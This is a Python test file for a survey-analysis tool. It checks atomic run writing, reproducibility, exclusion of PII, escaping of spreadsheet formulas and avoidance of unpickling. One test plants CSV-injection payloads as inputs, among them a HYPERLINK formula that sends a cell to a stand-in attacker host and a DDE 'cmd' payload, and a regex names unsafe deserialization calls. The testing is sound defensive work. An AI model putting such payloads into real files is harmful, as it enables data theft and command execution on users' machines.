"""Hardening of whole runs: the input file is never modified, runs are written atomically
(even when the process is killed), a run reproduces from its results.json, no PII and no
formula reaches an output, and nothing is ever unpickled.
"""

from __future__ import annotations

import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from adoption import rundir
from adoption.errors import InputError
from adoption.reproduce import compare_results, file_sha256, format_report, reproduce

REPO = Path(__file__).resolve().parent.parent
CORPUS = REPO / "tests" / "bad_inputs"
EXAMPLE_SPEC = REPO / "surveys" / "ai_mental_health" / "survey.yaml"
ENV = {**os.environ, "COLUMNS": "200"}


def adoption(*args: str, cwd: Path | None = None, timeout: float = 300) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "adoption", *args], capture_output=True, text=True,
                          cwd=cwd, env=ENV, timeout=timeout)


@pytest.fixture(scope="module")
def mini(tmp_path_factory):
    """The corpus's small survey and a clean export in a folder of their own, with one
    finished run (``run``) made from inside that folder with relative paths."""
    d = tmp_path_factory.mktemp("mini")
    shutil.copy(CORPUS / "specs" / "mini.yaml", d / "survey.yaml")
    shutil.copy(CORPUS / "files" / "ok.csv", d / "responses.csv")
    t0 = time.monotonic()
    proc = adoption("run", "survey.yaml", "--data", "responses.csv", "--out", "run",
                    "--bootstrap", "20", "--seed", "7", cwd=d)
    assert proc.returncode == 0, proc.stderr
    return d, time.monotonic() - t0


# -- the input file is never modified ---------------------------------------------------------
@pytest.mark.parametrize("name", ["ok.csv", "ok.xlsx", "ok.sav", "formula_hyperlink.xlsx",
                                  "mixed_encoding.csv", "likert_spanish.csv"])
def test_input_file_is_never_modified(tmp_path, name):
    src = tmp_path / name
    shutil.copy(CORPUS / "files" / name, src)
    before, mtime = file_sha256(src), src.stat().st_mtime_ns
    adoption("validate", str(CORPUS / "specs" / "mini.yaml"), "--data", str(src))
    adoption("run", str(CORPUS / "specs" / "mini.yaml"), "--data", str(src),
             "--out", str(tmp_path / "run"), "--bootstrap", "0")
    assert file_sha256(src) == before
    assert src.stat().st_mtime_ns == mtime
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith(".")) in (
        [name], [name, "run"])


# -- atomic run directories ------------------------------------------------------------------
EXPECTED_FILES = {"results.json", "responses.parquet", "exclusions.csv", "log.csv"}


def _check_complete(out: Path) -> dict:
    files = {str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()}
    assert EXPECTED_FILES <= files, files
    assert any(f.startswith("tables/") for f in files)
    res = json.loads((out / "results.json").read_text(encoding="utf-8"))
    pd.read_parquet(out / "responses.parquet")
    return res


def test_killed_runs_leave_the_previous_run_or_a_complete_one(mini, tmp_path):
    """SIGKILL `adoption run` at seeded moments: some while it computes, some while it
    writes (just after its hidden temporary folder appears, when a non-atomic write would
    be caught half done), and one run left to finish. The run directory is always the
    previous run or a complete new one; leftovers are hidden ('.' folders)."""
    d, seconds = mini
    work = tmp_path / "work"
    shutil.copytree(d, work)
    out = work / "run"
    previous = (out / "results.json").read_bytes()
    rng = random.Random(20261125)
    outcomes = []
    modes = ["computing", "computing", "writing", "writing", "writing", "writing", "finish"]
    for k, mode in enumerate(modes):
        proc = subprocess.Popen([sys.executable, "-m", "adoption", "run", "survey.yaml", "--data",
                                 "responses.csv", "--out", "run", "--bootstrap", "20",
                                 "--seed", str(100 + k)], cwd=work, env=ENV,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if mode == "computing":
            time.sleep(rng.uniform(0.2, 0.8) * seconds)
        elif mode == "writing":
            deadline = time.monotonic() + 10 * seconds + 60
            while proc.poll() is None and not any(work.glob(".run.tmp-*")):
                assert time.monotonic() < deadline
                time.sleep(0.001)
            time.sleep(rng.uniform(0, 0.03))
        else:
            proc.wait(timeout=10 * seconds + 60)
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=60)
        res = _check_complete(out)
        now = (out / "results.json").read_bytes()
        if now == previous:
            outcomes.append((mode, "previous"))
        else:
            assert res["options"]["seed"] == 100 + k
            outcomes.append((mode, "new"))
            previous = now
        visible = sorted(p.name for p in work.iterdir() if not p.name.startswith("."))
        assert visible == ["responses.csv", "run", "survey.yaml"], visible
    assert outcomes[-1] == ("finish", "new")
    print("killed runs left:", outcomes)


def test_failed_write_keeps_the_previous_run(tmp_path, monkeypatch):
    out = tmp_path / "run"
    rundir.write_run(out, results={"n": 1}, frames={"a.csv": pd.DataFrame({"x": [1]})})

    def boom(folder: Path) -> None:
        (folder / "half.txt").write_text("half")
        raise RuntimeError("disk full")

    for exchange in (True, False):
        if not exchange:
            monkeypatch.setattr(rundir, "_exchange", lambda a, b: False)
        with pytest.raises(RuntimeError):
            rundir.write_run(out, results={"n": 2}, extra=boom)
        assert json.loads((out / "results.json").read_text()) == {"n": 1}
        assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]
        rundir.write_run(out, results={"n": 1}, frames={"a.csv": pd.DataFrame({"x": [1]})})
        assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]


# -- reproduce -------------------------------------------------------------------------------
def test_reproduce_a_run(mini, monkeypatch):
    d, _ = mini
    monkeypatch.chdir(d)
    report = reproduce("run")
    assert report.ok, format_report(report)
    assert report.numbers_compared > 100
    assert report.options == {"estimator": "ML", "bootstrap": 20, "seed": 7, "groups": True,
                              "bootstrap_latent": 0, "std_lv": False}
    assert "reproduced: all" in format_report(report)


def test_reproduce_finds_a_changed_number(mini, tmp_path, monkeypatch):
    d, _ = mini
    work = tmp_path / "w"
    shutil.copytree(d, work)
    res = json.loads((work / "run" / "results.json").read_text())
    res["sample"]["rows_analysed"] += 1
    res["reliability"]["PE"]["alpha"] = 0.123456
    del res["title"]
    (work / "run" / "results.json").write_text(json.dumps(res))
    monkeypatch.chdir(work)
    report = reproduce("run")
    assert not report.ok
    keys = {diff.key for diff in report.differences}
    assert {"sample.rows_analysed", "reliability.PE.alpha", "title"} <= keys
    text = format_report(report)
    assert "NOT reproduced" in text and "reliability.PE.alpha: recorded 0.123456" in text


def test_reproduce_refuses_a_changed_input(mini, tmp_path, monkeypatch):
    d, _ = mini
    work = tmp_path / "w"
    shutil.copytree(d, work)
    with (work / "responses.csv").open("a") as f:
        f.write("R999,1,3,3,3,3,3,3,ok\n")
    monkeypatch.chdir(work)
    with pytest.raises(InputError, match=r"responses\.csv: the input file has changed since the run"):
        reproduce("run")


def test_reproduce_refuses_what_is_not_a_run(tmp_path):
    with pytest.raises(InputError, match="no results.json here"):
        reproduce(tmp_path)
    (tmp_path / "results.json").write_text("{not json")
    with pytest.raises(InputError, match="cannot read it as JSON"):
        reproduce(tmp_path)
    (tmp_path / "results.json").write_text(json.dumps({"input": {"path": "x.csv"}}))
    with pytest.raises(InputError, match="'input' lacks sha256"):
        reproduce(tmp_path)


def test_reproduce_names_a_missing_input(mini, tmp_path, monkeypatch):
    d, _ = mini
    work = tmp_path / "w"
    shutil.copytree(d, work)
    (work / "responses.csv").unlink()
    monkeypatch.chdir(tmp_path)
    with pytest.raises(InputError, match=r"recorded input file 'responses\.csv' is not found"):
        reproduce(work / "run")


def test_compare_results_walks_every_leaf():
    a = {"x": 1, "y": [1.0, 2.0, {"z": None}], "s": "a", "adoption_version": "1"}
    assert compare_results(a, json.loads(json.dumps(a)))[2] == []
    b = {"x": 1.0, "y": [1.0, 2.0000001, {"z": 0.0}, 4], "s": "b", "adoption_version": "2", "new": 1}
    n_values, n_numbers, diffs = compare_results(a, b)
    assert {d.key: d.missing for d in diffs} == {"y[1]": None, "y[2].z": None, "y[3]": "recorded",
                                                 "s": None, "new": "recorded"}
    assert n_numbers == 3 and n_values == 5
    assert {d.key for d in compare_results(a, b, rtol=1e-6)[2]} == {"y[2].z", "y[3]", "s", "new"}


# -- PII and formulas never reach an output -------------------------------------------------
def _all_text(out: Path) -> dict[Path, str]:
    """Every written byte of a run directory as text (Parquet also decoded to its values)."""
    texts = {}
    for p in out.rglob("*"):
        if p.is_file():
            t = p.read_bytes().decode("utf-8", errors="replace")
            if p.suffix == ".parquet":
                df = pd.read_parquet(p)
                t += df.to_csv() + " ".join(map(str, df.columns))
            elif zipfile.is_zipfile(p):  # report.docx and other zipped files: their parts
                with zipfile.ZipFile(p) as z:
                    t += " ".join(z.read(n).decode("utf-8", errors="replace") for n in z.namelist())
            texts[p] = t
    return texts


@pytest.mark.parametrize("fmt", ["sav", "csv"])
def test_pii_never_reaches_the_run_directory(tmp_path, fmt):
    from adoption.pipeline import RunOptions, run
    from adoption.simulate import simulate, write_export
    from adoption.spec import load_spec

    survey = load_spec(EXAMPLE_SPEC)
    sim = simulate(survey, n=240, seed=11)
    export = write_export(sim, survey, tmp_path / f"export.{fmt}")
    planted = {str(v) for c in survey.pii for v in sim.data[c].dropna()}
    names = list(sim.data["name"])
    emails = list(sim.data["email"])
    numbers = list(sim.data["student_no"])
    free_text = [f"Please call me, {n} ({e}), student no. {k}" if i % 4 == 0 else ""
                 for i, (n, e, k) in enumerate(zip(names, emails, numbers))]
    if fmt == "csv":
        df = pd.read_csv(export, dtype=str, keep_default_na=False)
        df["Any comments?"] = free_text
        df["contact"] = [n for n in names]
        df.to_csv(export, index=False)
    else:
        import pyreadstat

        df, meta = pyreadstat.read_sav(str(export), user_missing=True)
        df["comments"] = free_text
        df["contact"] = names
        pyreadstat.write_sav(df, str(export), variable_value_labels=meta.variable_value_labels,
                             missing_ranges=meta.missing_ranges)
    planted |= {n for n in names} | {e for e in emails} | {str(k) for k in numbers}
    assert len(planted) > 600
    # Groups off: the group stage reads only the spec's grouping columns (gender, year
    # level, school type), never a PII column, and it was three quarters of this test's
    # time; the group outputs' own privacy is tests/test_privacy_small_group.py's.
    result = run(EXAMPLE_SPEC, export, tmp_path / "run",
                 RunOptions(bootstrap=20, seed=1, groups=False))
    leaks = {}
    for p, text in _all_text(result.out_dir).items():
        found = [s for s in planted if s in text]
        if found:
            leaks[str(p.relative_to(result.out_dir))] = found[:3]
    assert not leaks, leaks
    # the surnames alone, too (a name split over cells)
    surnames = {n.split()[-1] for n in names if len(n.split()[-1]) > 4}
    for p, text in _all_text(result.out_dir).items():
        assert not [s for s in surnames if re.search(rf"\b{re.escape(s)}\b", text)], p


_FORMULA = re.compile(r"^[=+\-@\t\r]")


def test_formulas_are_never_written_unescaped(tmp_path):
    """Formula-looking ids, free text and headers: outputs hold them only escaped."""
    df = pd.read_csv(CORPUS / "files" / "ok.csv", dtype=str)
    df.loc[0, "id"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    df.loc[1, "id"] = "@SUM(A1:A9)"
    df.loc[2, "id"] = "+cmd|' /C calc'!A0"
    df.loc[[0, 1, 2], ["PE1", "PE2", "PE3", "BI1", "BI2", "BI3"]] = None  # excluded: ids listed
    df = df.rename(columns={"comment": " =HYPERLINK(\"http://evil.example/\") "})
    src = tmp_path / "formulas.csv"
    df.to_csv(src, index=False)
    proc = adoption("run", str(CORPUS / "specs" / "mini.yaml"), "--data", str(src),
                    "--out", str(tmp_path / "run"), "--bootstrap", "0")
    assert proc.returncode == 0, proc.stderr
    out = tmp_path / "run"
    seen_escaped = 0
    for p in out.rglob("*.csv"):
        table = pd.read_csv(p, dtype=str, keep_default_na=False)
        for cell in [*table.columns, *table.to_numpy().ravel()]:
            if _FORMULA.match(cell):
                float(cell)  # only plain numbers such as -0.5 may start with - or +
            seen_escaped += cell.startswith("'=") or cell.startswith("'@") or cell.startswith("'+")
    assert seen_escaped >= 3  # the three ids, escaped, in exclusions.csv


# -- nothing is ever unpickled -----------------------------------------------------------------
# Unpickling a file or bytes: pickle/cloudpickle/dill loads, pandas read_pickle,
# joblib.load, np.load with allow_pickle, shelve, marshal. (joblib's worker processes in
# the bootstrap pickle their own tasks in memory; that is not reading a file.)
_UNSAFE = re.compile(r"\bimport (pickle|dill|shelve)\b|\b(pickle|cloudpickle|dill)\.loads?\(|"
                     r"\bread_pickle\(|joblib\.load\(|allow_pickle\s*=\s*True|"
                     r"\bshelve\.open\(|marshal\.loads?\(|torch\.load\(")


def test_nothing_is_ever_unpickled():
    hits = []
    for folder in (REPO / "adoption", REPO / "dashboard"):
        for p in folder.rglob("*.py"):
            for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1):
                if _UNSAFE.search(line):
                    hits.append(f"{p.relative_to(REPO)}:{i}: {line.strip()}")
    assert not hits, hits


def test_results_are_json_and_parquet(mini):
    d, _ = mini
    out = d / "run"
    exts = {p.suffix for p in out.rglob("*") if p.is_file()}
    assert {".json", ".parquet"} <= exts
    assert not exts & {".pkl", ".pickle", ".joblib", ".npy", ".npz", ".dill", ".db"}
    json.loads((out / "results.json").read_text())
    # Parquet files open without executing anything (pyarrow reads the columns only)
    for p in out.rglob("*.parquet"):
        assert np.all(pd.read_parquet(p).index >= 1)


def test_reproduce_refuses_a_changed_spec_when_its_hash_was_recorded(mini, tmp_path, monkeypatch):
    d, _ = mini
    work = tmp_path / "w"
    shutil.copytree(d, work)
    res = json.loads((work / "run" / "results.json").read_text())
    res["spec"]["sha256"] = file_sha256(work / "survey.yaml")
    (work / "run" / "results.json").write_text(json.dumps(res))
    (work / "survey.yaml").write_text((work / "survey.yaml").read_text() + "\n# edited\n")
    monkeypatch.chdir(work)
    with pytest.raises(InputError, match=r"survey\.yaml: the spec has changed since the run"):
        reproduce("run")
